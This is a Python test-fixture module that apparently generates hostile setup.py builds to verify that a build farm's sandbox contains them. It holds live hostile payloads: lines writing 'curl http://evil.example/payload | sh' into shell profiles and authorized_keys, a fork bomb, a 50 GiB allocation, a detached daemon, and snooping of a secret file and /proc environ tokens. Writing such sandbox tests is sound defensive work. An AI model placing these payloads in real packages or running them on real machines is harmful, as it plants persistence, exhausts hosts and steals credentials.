"""Hostile sdists: each ``setup.py`` tries one thing a build on the farm must not get away with.

They reproduce the founding story (builds that wrote into HOME, cloned repositories, sat at a
prompt, imported what they never declared) and the classic ways a build hurts its machine. Each
prints what it did and saw on lines starting with ``HOSTILE_PREFIX``, so a test reads the outcome in
the build log; the ones that do no lasting harm by themselves still end in ``setup()``, so their
build succeeds when the farm contains them. The scripts are written for the builder's Python, run
by a setuptools backend: ``setup.py`` runs once per backend hook, so effects happen more than once.
"""

from __future__ import annotations

from collections.abc import Callable

from wheelmill.testing.metadata import CoreMetadata

HOSTILE_PREFIX = "wheelmill-hostile:"
# A host path a build must not read; tests create it with a secret in it.
SECRET_PATH = "/root/.wheelmill-token-test"
# argv markers, so a test can look for the build's processes on the host by their command line.
DAEMON_MARKER = "1000.0271828"  # `sleep 1000.0271828`, started in its own session
FORK_BOMB_MARKER = "wheelmill-fork-bomb"
FLOOD_BYTES = 100 * 2**20
ALLOCATION_BYTES = 50 * 2**30

_PROLOGUE = f"""\
import os
import sys
from pathlib import Path

from setuptools import setup


def say(*words):
    print({HOSTILE_PREFIX!r}, *words, flush=True)

"""

_HOME_WRITES = """\
home = Path.home()
for name in (".bashrc", ".profile", ".config/pip/pip.conf", ".ssh/authorized_keys"):
    path = home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as handle:
        handle.write("curl http://evil.example/payload | sh\\n")
    say("wrote", path)
for path in ("/root/.bashrc", os.path.expanduser("~root/.bashrc"), "/etc/profile.d/hostile.sh"):
    try:
        with open(path, "a") as handle:
            handle.write("curl http://evil.example/payload | sh\\n")
        say("wrote", path)
    except OSError as exc:
        say("cannot write", path, type(exc).__name__)
setup()
"""

_GIT_CLONE = """\
import subprocess
import time

started = time.monotonic()
done = subprocess.run(["git", "clone", "https://github.com/pypa/sampleproject", "sampleproject"])
say(f"git clone exited {done.returncode} after {time.monotonic() - started:.1f}s")
if done.returncode:
    raise SystemExit("git clone failed")
setup()
"""

_STDIN = """\
say("asking for a password")
password = input("Password for 'https://github.com': ")
say("got a password", len(password))
setup()
"""

# Sleeps in its loop rather than spinning: a hang is the common case, and the timeout kills either.
_ENDLESS_LOOP = """\
import time

say("looping forever")
while True:
    time.sleep(0.1)
"""

# Each process forks until the kernel refuses, then retries now and then: the population stays at
# whatever cap the sandbox sets. The exec puts the marker in every process's command line.
_FORK_BOMB = f"""\
if sys.argv[-1] != {FORK_BOMB_MARKER!r}:
    say("forking without end")
    code = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n"
    code += "        time.sleep(1)\\n"
    os.execv(sys.executable, [sys.executable, "-c", code, {FORK_BOMB_MARKER!r}])
"""

_HUGE_ALLOCATION = f"""\
say("allocating {ALLOCATION_BYTES} bytes")
hoard = b"x" * {ALLOCATION_BYTES}  # written, not just reserved: every page is really used
say("allocated")
setup()
"""

# Only while building the wheel, so the flood happens once, not once per backend hook.
_FLOOD = f"""\
if "bdist_wheel" in sys.argv:
    say("flood starts")
    line = "x" * 1023 + "\\n"
    for _ in range({FLOOD_BYTES} // 1024):
        sys.stdout.write(line)
    say("flood ends")
setup()
"""

_NETWORK = """\
import socket

try:
    socket.create_connection(("1.1.1.1", 53), timeout=30).close()
except OSError as exc:
    say("connecting to 1.1.1.1:53 failed:", exc)
    raise
say("connected to 1.1.1.1:53")
setup()
"""

_SNOOP = f"""\
def look(what, read):
    try:
        say(what, "->", repr(read()))
    except OSError as exc:
        say(what, "->", type(exc).__name__)


look({SECRET_PATH!r}, Path({SECRET_PATH!r}).read_text)
look("ls /root", lambda: sorted(os.listdir("/root")))
look("ls ~root", lambda: sorted(os.listdir(os.path.expanduser("~root"))))
for parent in Path.cwd().parents:
    look(f"ls {{parent}}", lambda parent=parent: sorted(os.listdir(parent)))
for environ in sorted(Path("/proc").glob("[0-9]*/environ")):
    look(str(environ), lambda environ=environ: [
        v for v in environ.read_bytes().split(b"\\0") if b"TOKEN" in v
    ])
say("environment:", sorted(os.environ))
setup()
"""

# Detached as a daemon does, stdio included: a process that kept the build's output pipe open would
# instead keep the frontend waiting for the end of the output, and the build would end at its timeout.
_DAEMON = f"""\
import subprocess

daemon = subprocess.Popen(
    ["sleep", {DAEMON_MARKER!r}], start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
say("left a daemon behind:", daemon.pid)
setup()
"""

_UNDECLARED_NUMPY = """\
import numpy

say("numpy", numpy.__version__)
setup()
"""

_SCRIPTS = {
    "home-writes": _HOME_WRITES,
    "git-clone": _GIT_CLONE,
    "stdin": _STDIN,
    "endless-loop": _ENDLESS_LOOP,
    "fork-bomb": _FORK_BOMB,
    "huge-allocation": _HUGE_ALLOCATION,
    "output-flood": _FLOOD,
    "network": _NETWORK,
    "snoop": _SNOOP,
    "daemon": _DAEMON,
    "undeclared-numpy": _UNDECLARED_NUMPY,
}


def _generator(script: str) -> Callable[[CoreMetadata], dict[str, str]]:
    def generate(meta: CoreMetadata) -> dict[str, str]:
        return {
            "setup.py": _PROLOGUE + script,
            f"{meta.module}/__init__.py": f'"""{meta.name}: a hostile build from wheelmill.testing."""\n',
        }

    return generate


# Keyed by the SdistKind values that sdists.py registers them under.
HOSTILE_GENERATORS = {kind: _generator(script) for kind, script in _SCRIPTS.items()}
